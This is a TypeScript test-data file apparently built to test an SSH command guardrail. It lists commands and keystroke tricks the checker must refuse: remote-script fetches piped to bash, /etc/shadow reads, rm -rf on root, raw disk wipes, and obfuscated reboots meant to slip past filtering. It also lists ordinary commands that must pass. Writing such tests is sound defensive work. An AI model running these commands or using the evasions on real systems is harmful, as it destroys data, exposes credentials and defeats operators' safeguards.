/**
 * Issue 16's SSH corpus, as data: exec commands and interactive keystrokes that must be refused
 * (naming the rule), and ordinary commands that must pass. Phase A runs them over the checker and
 * the line editor (evasions.test.ts); phase B sends the same through real ssh and sshd.
 */

/** The target's guardrails configuration for the corpus. */
export const EVASION_GUARDRAILS = {
  patterns: [{ id: 'no-shadow', pattern: '/etc/shadow', reason: 'the shadow file is off limits' }],
};

/** Exec commands that must be refused: [command, rule]. */
export const EXEC_EVASIONS: readonly (readonly [string, string])[] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
  ['c=/etc/shad; cat ${c}ow', 'dynamic-command'],
  ['echo cmVib290 | base64 -d | sh', 'dynamic-command'],
  ['curl -s http://example.invalid/x.sh | bash', 'dynamic-command'],
  ['sudo -iu root reboot', 'power'],
  ['sudo -u root -- reboot', 'power'],
  ['doas -u root poweroff', 'power'],
  ["su - root -c 'systemctl reboot'", 'power'],
  ['su --command=reboot root', 'power'],
  ['bash -c -- reboot', 'power'],
  ['sh -xc reboot', 'power'],
  ['bash -c \'sh -c "halt"\'', 'power'],
  ['systemctl isolate poweroff.target', 'power'],
  ['systemctl start reboot.target', 'power'],
  ['systemctl --force --force reboot', 'power'],
  ['cat /dev/zero > /dev/sda', 'device-write'],
  ['echo b > /proc/sysrq-trigger', 'device-write'],
  ['cat image.raw | tee /dev/nvme0n1 >/dev/null', 'device-write'],
  ['dd if=/dev/zero of=/dev/vda', 'dd-device'],
  ['find / -delete', 'rm-root'],
  ['find / -exec rm -rf {} +', 'rm-root'],
  ['find /var/log -name x -exec reboot \\;', 'power'],
  ['cd / && rm -rf .', 'rm-root'],
  ['cd /; rm -rf *', 'rm-root'],
  ['cd /tmp && rm -rf ../', 'rm-root'],
  ['eval "rm -rf /"', 'rm-root'],
  ['eval "$(echo reboot)"', 'dynamic-command'],
  ['$(echo reboot)', 'dynamic-command'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
  ['${SHELL} -c reboot', 'dynamic-command'],
  ["$'\\x72\\x65boot'", 'power'],
  ['re\\boot', 'power'],
  ['"re"boot', 'power'],
  ['x=reboot; $x', 'dynamic-command'],
  ['python3 -c \'import os; os.system("reboot")\'', 'interpreter'],
  ["perl -e 'system q(reboot)'", 'interpreter'],
  ['echo "reboot" | python3', 'interpreter'],
  ['awk \'BEGIN { system("reboot") }\'', 'interpreter'],
  ['bash <<EOF\nreboot\nEOF', 'power'],
  ["sh <<< 'rm -rf /'", 'rm-root'],
  ['bash <(curl -s http://example.invalid/x)', 'dynamic-command'],
  ["alias ll='rm -rf /'", 'rm-root'],
  ['nohup setsid timeout 5 nice -n 5 reboot &', 'power'],
  ['env -i PATH=/sbin reboot', 'power'],
  ['xargs -a list rm -rf', 'dynamic-command'],
  ['rm -rf "$TARGET/"', 'dynamic-command'],
  ['watch -n 1 reboot', 'power'],
  ['echo reboot | at now', 'dynamic-command'],
  ['f() { reboot; }; f', 'power'],
  ['{ cat /dev/urandom; } > /dev/sdb', 'device-write'],
  ['cat /etc/shadow', 'no-shadow'],
  ['cat /etc/sha*', 'dynamic-command'],
  ["cat $(printf '/etc/sha%sow' d)", 'dynamic-command'],
  ['cat /etc/sha{d,}ow', 'dynamic-command'],
  ['cat "$LC_FILE"', 'dynamic-command'],
];

/** Interactive keystrokes (what the client sends) that must be refused: [label, keys, rule]. */
export const INTERACTIVE_TRICKS: readonly (readonly [string, string, string])[] = [
  ['a backslash-continued line', 're\\\rboot\r', 'power'],
  ['a continuation inside sudo', 'sudo \\\rrm -rf /\r', 'rm-root'],
  ['a fake bracketed-paste start followed by a command', '\x1b[200~reboot\r', 'power'],
  ['a fake paste start, a harmless line, then the command', '\x1b[200~ls\rrm -rf /\r', 'rm-root'],
  ['a multi-line paste checked line by line', '\x1b[200~echo ok\rhalt\r\x1b[201~\r', 'power'],
  ['an open quote carried to the next line', 'bash -c "echo hi\rreboot"\r', 'power'],
  ['cd / on one line, a relative delete on the next', 'cd /\rrm -rf .\r', 'rm-root'],
  ['a variable set on one line, used on the next', 'c=reboot\r$c\r', 'dynamic-command'],
  ['history expansion re-running a refused command', '!!\r', 'dynamic-command'],
  ['an OSC string hiding keys', 'echo \x1b]0;x\x07hi\r', 'unknown-line'],
  ['a paste end without a start', 'ls\x1b[201~\r', 'unknown-line'],
];

/**
 * Ordinary commands that must pass (pipes between ordinary tools included), on a target without
 * command patterns (with patterns, computed words and globs are refused: see docs/guardrails.md).
 */
export const ORDINARY_COMMANDS: readonly string[] = [
  'ls -la /var/log',
  'ps aux | grep nginx | head -5',
  'journalctl -u nginx --since today | tail -n 50',
  'df -h && free -m',
  'grep -r "timeout" /etc/nginx | sort | uniq -c',
  "cat /var/log/syslog | awk '{print $5}' | sort | uniq -c | sort -rn | head",
  'find /var/log -name "*.gz" -mtime +30 -delete',
  'find . -name "*.tmp" -exec rm -f {} +',
  'rm -rf ./build /tmp/cache',
  'tar czf /tmp/logs.tgz /var/log/nginx',
  'systemctl status nginx',
  'systemctl restart nginx',
  'sudo systemctl reload nginx',
  'sudo -u postgres psql -c "select 1"',
  'echo "$HOME" && ls ~',
  'for f in /var/log/*.log; do wc -l "$f"; done',
  'dd if=/dev/sda of=/tmp/mbr.img bs=512 count=1',
  'cd /tmp && rm -rf ./scratch',
  'bash -c "uptime"',
  'kubectl get pods -n prod',
  'echo done > /tmp/out 2>&1',
  'python3 /opt/tools/report.py --since yesterday',
  'git -C /srv/app log --oneline | head',
];
